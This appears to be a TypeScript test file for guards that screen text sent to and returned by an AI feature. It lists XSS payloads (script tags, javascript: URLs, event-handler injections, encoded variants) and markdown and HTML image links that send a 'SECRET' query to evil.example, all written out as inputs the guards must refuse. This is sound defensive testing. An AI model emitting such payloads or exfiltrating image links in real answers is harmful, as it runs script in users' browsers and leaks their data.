/**
 * The AI guards on their own: what each refuses, what passes untouched, `strip` mode, the length
 * limits at their exact edges, event handlers by their shape and remote images in answers. That
 * hostile text costs linear time is proven in guards.linear.test.ts.
 */
import { describe, expect, it } from "vitest";
import {
  MAX_AI_INPUT_LENGTH,
  MAX_AI_RESPONSE_LENGTH,
  sanitizeAIInput,
  validateAIResponse,
} from "./guards.ts";

describe("sanitizeAIInput", () => {
  it.each([
    ["<script>alert(1)</script>", "script_tag"],
    ["< SCRIPT src=//evil.example>", "script_tag"],
    ["text </script> more", "script_tag"],
    ["javascript:alert(1)", "javascript_url"],
    ["JaVaScRiPt:alert(1)", "javascript_url"],
    ["java\tscript:alert(1)", "javascript_url"],
    ["&#106;avascript&colon;alert(1)", "javascript_url"],
    ["&#x6A;avascript:alert(1)", "javascript_url"],
    ["vbscript:msgbox(1)", "javascript_url"],
    ['<img src=x onerror="alert(1)">', "inline_handler"],
    ["<svg/onload=alert(1)>", "inline_handler"],
    ["<div\nonmouseover = 'x()'>", "inline_handler"],
    ['" onfocus="alert(1)" autofocus="', "inline_handler"],
    ["<a onbeforetoggle=x>", "inline_handler"],
  ])("refuses %j (%s)", (input, violation) => {
    expect(sanitizeAIInput(input)).toMatchObject({ ok: false, violation });
  });

  it.each([
    "Summarise the last three tickets for the billing team.",
    "Is 3 < 4 and 5 > 2? In JavaScript, x => x + 1 is fine; a JavaScript : label too.",
    "Set one=1, online=true and noon=12 in the config.",
    "Escaped markup is inert: &lt;script&gt;alert(1)&lt;/script&gt;",
    "Describe the <b>bold</b> tag and the onboarding flow.",
  ])("lets %j through untouched", (input) => {
    expect(sanitizeAIInput(input)).toEqual({ ok: true, value: input, removed: [] });
  });

  describe("event handlers, matched by shape rather than by name", () => {
    it.each([
      // Inside a tag, any `on…=` attribute, whatever the event.
      "<a oncontentvisibilityautostatechange=alert(1)>",
      "<div/onscrollend='x()'>",
      '<p title="x"onbeforetoggle="alert(1)">',
      // Breaking out of a quoted attribute the text is later put in.
      '" oncontentvisibilityautostatechange="alert(1)" x="',
      "' onscrollend='alert(1)",
      '"onbeforetoggle="alert(1)',
      '"/onsomefutureevent=alert(1)',
      // Outside a tag: a quoted value, or an unquoted one that calls something.
      'x onbeforetoggle="alert(1)"',
      "x onscrollend=alert(1)",
      "x onpointerrawupdate=fetch`//evil.example`",
    ])("refuses %j", (input) => {
      expect(sanitizeAIInput(input)).toMatchObject({ ok: false, violation: "inline_handler" });
      expect(validateAIResponse(input)).toMatchObject({ ok: false, violation: "inline_handler" });
    });

    it.each([
      "Jon=5 and Ron = 6",
      "Run it once = 3 times, then online=true.",
      "Set one=1, noon=12 and onset = late in prose.",
      "Once=done; on=off; only = some",
    ])("lets prose %j through", (input) => {
      expect(sanitizeAIInput(input)).toEqual({ ok: true, value: input, removed: [] });
    });

    it("strips an unlisted handler in strip mode", () => {
      expect(sanitizeAIInput('<b onscrollend="x()">Hi</b>', { mode: "strip" })).toMatchObject({
        ok: true,
        value: "<b>Hi</b>",
        removed: ["inline_handler"],
      });
      expect(sanitizeAIInput('x" onbeforetoggle="alert(1)" y', { mode: "strip" })).toMatchObject({
        ok: true,
        value: 'x"  y',
      });
    });
  });

  it("refuses text over the limit and accepts text at it", () => {
    expect(sanitizeAIInput("a".repeat(MAX_AI_INPUT_LENGTH)).ok).toBe(true);
    expect(sanitizeAIInput("a".repeat(MAX_AI_INPUT_LENGTH + 1))).toMatchObject({
      ok: false,
      violation: "too_long",
    });
    expect(sanitizeAIInput("a".repeat(11), { maxLength: 10 })).toMatchObject({
      violation: "too_long",
    });
  });

  it("refuses non-text and blank prompts", () => {
    expect(sanitizeAIInput(42)).toMatchObject({ ok: false, violation: "not_text" });
    expect(sanitizeAIInput(undefined)).toMatchObject({ ok: false, violation: "not_text" });
    expect(sanitizeAIInput(" \n\t ")).toMatchObject({ ok: false, violation: "empty" });
  });

  it("refuses oversize text in strip mode too: it is never cut", () => {
    const input = `<script>x</script>${"a".repeat(MAX_AI_INPUT_LENGTH)}`;
    expect(sanitizeAIInput(input, { mode: "strip" })).toMatchObject({
      ok: false,
      violation: "too_long",
    });
  });

  describe("strip mode", () => {
    it.each([
      ["Hello <script>steal()</script>world", "Hello world", ["script_tag"]],
      ['<img src=x onerror="alert(1)"> caption', "<img src=x> caption", ["inline_handler"]],
      ["<a href=javascript:alert(1)>x</a>", "<a href=alert(1)>x</a>", ["javascript_url"]],
      ["<b onclick=go()>Hi</b><script>x</script>", "<b>Hi</b>", ["script_tag", "inline_handler"]],
    ])("cleans %j", (input, value, removed) => {
      const result = sanitizeAIInput(input, { mode: "strip" });
      expect(result).toMatchObject({ ok: true, value });
      expect(result.ok && [...result.removed].sort()).toEqual([...removed].sort());
    });

    it("does not let stripping assemble a new script tag", () => {
      const result = sanitizeAIInput("<scr<script>x</script>ipt>alert(1)</scr</script>ipt>", {
        mode: "strip",
      });
      if (result.ok) expect(result.value).not.toMatch(/<\s*\/?\s*script/i);
      else expect(["script_tag", "empty"]).toContain(result.violation);
    });

    it("refuses a prompt that was nothing but markup", () => {
      expect(sanitizeAIInput("<script>x</script>", { mode: "strip" })).toMatchObject({
        ok: false,
        violation: "empty",
      });
    });
  });
});

describe("validateAIResponse", () => {
  it.each([
    ["Sure! <script>alert(1)</script>", "script_tag"],
    ["[docs](javascript:alert(1))", "javascript_url"],
    ["<img src=x onerror=alert(1)>", "inline_handler"],
    ['<iframe src="https://evil.example"></iframe>', "embedded_content"],
    ["<object data=x>", "embedded_content"],
    ["data:text/html;base64,PHNjcmlwdD4=", "embedded_content"],
    ["Your key is k_live_3f9a0c1b2d4e5f60718293a4b5c6abcd", "secret"],
    ["-----BEGIN RSA PRIVATE KEY-----\nMIIE…", "secret"],
  ])("refuses %j (%s)", (output, violation) => {
    expect(validateAIResponse(output)).toMatchObject({ ok: false, violation });
  });

  it("accepts ordinary answers, including empty ones and markdown", () => {
    for (const output of ["", "## Summary\n- 3 open tickets\n- `x => x * 2`", "Use <b>bold</b>."]) {
      expect(validateAIResponse(output)).toEqual({ ok: true, value: output, removed: [] });
    }
  });

  it("refuses answers over the limit and accepts answers at it", () => {
    expect(validateAIResponse("b".repeat(MAX_AI_RESPONSE_LENGTH)).ok).toBe(true);
    expect(validateAIResponse("b".repeat(MAX_AI_RESPONSE_LENGTH + 1))).toMatchObject({
      ok: false,
      violation: "too_long",
    });
  });

  it("refuses non-text answers", () => {
    expect(validateAIResponse({ text: "hi" })).toMatchObject({ ok: false, violation: "not_text" });
  });

  it("applies the caller's own patterns, global ones included, the same way on every call", () => {
    const patterns = [/internal\.acme\.com/g];
    for (let call = 0; call < 3; call += 1) {
      expect(validateAIResponse("see https://internal.acme.com/x", { patterns })).toMatchObject({
        ok: false,
        violation: "custom_pattern",
      });
    }
    expect(validateAIResponse("see https://acme.com", { patterns }).ok).toBe(true);
  });

  describe("remote images", () => {
    it.each([
      "![chart](https://evil.example/p.png?q=SECRET)",
      "Done. ![ ]( <https://evil.example/a b.png> )",
      "![a [nested] label](//evil.example/x.png)",
      "![x](\n  http://evil.example/x.png)",
      "![x](https:evil.example/x.png)",
      "![x](ftp://evil.example/x.png)",
      "![x](&#104;ttps://evil.example/x.png)",
      "![x][1]\n\n[1]: https://evil.example/x.png",
      "![logo]\n\n  [logo]:\n  <https://evil.example/x.png>",
      "<img src=https://evil.example/x.png>",
      '<img alt="" src="//evil.example/x.png">',
      "<img srcset='a.png 1x, https://evil.example/b.png 2x'>",
      "<video poster=https://evil.example/p.jpg>",
      '<link rel=prefetch href="https://evil.example/?q=SECRET">',
    ])("refuses %j", (output) => {
      expect(validateAIResponse(output)).toMatchObject({ ok: false, violation: "remote_image" });
    });

    it.each([
      "![diagram](/docs/diagram.png) and ![x](img/x.png)",
      "![dot](data:image/png;base64,iVBORw0KGgo=)",
      "[docs](https://acme.com/docs) is a link, not an image",
      "[1]: https://acme.com/docs\n\nA definition with no image.",
      '<a href="https://acme.com">a link</a>',
      "Write \\![x](https://evil.example/x.png) to show the syntax; index it as a[i](x).",
    ])("accepts %j", (output) => {
      expect(validateAIResponse(output)).toEqual({ ok: true, value: output, removed: [] });
    });

    it("accepts images from listed hosts only, by exact host name", () => {
      const options = { allowImageHosts: ["cdn.acme.com"] };
      for (const output of [
        "![logo](https://cdn.acme.com/logo.png)",
        "![logo](//CDN.Acme.com/logo.png)",
        "![l][a]\n[a]: https://cdn.acme.com/l.png",
        '<img src="https://cdn.acme.com/x.png">',
      ]) {
        expect(validateAIResponse(output, options)).toMatchObject({ ok: true });
      }
      for (const output of [
        "![x](https://cdn.acme.com.evil.example/x.png)",
        "![x](https://cdn.acme.com@evil.example/x.png)",
        "![x](https://evil.example/?cdn.acme.com)",
        "![x](https://static.cdn.acme.com/x.png)",
        "![ok](https://cdn.acme.com/a.png) ![x](https://evil.example/b.png)",
        "![x](javascript:alert(1))",
      ]) {
        expect(validateAIResponse(output, options)).toMatchObject({ ok: false });
      }
    });
  });
});
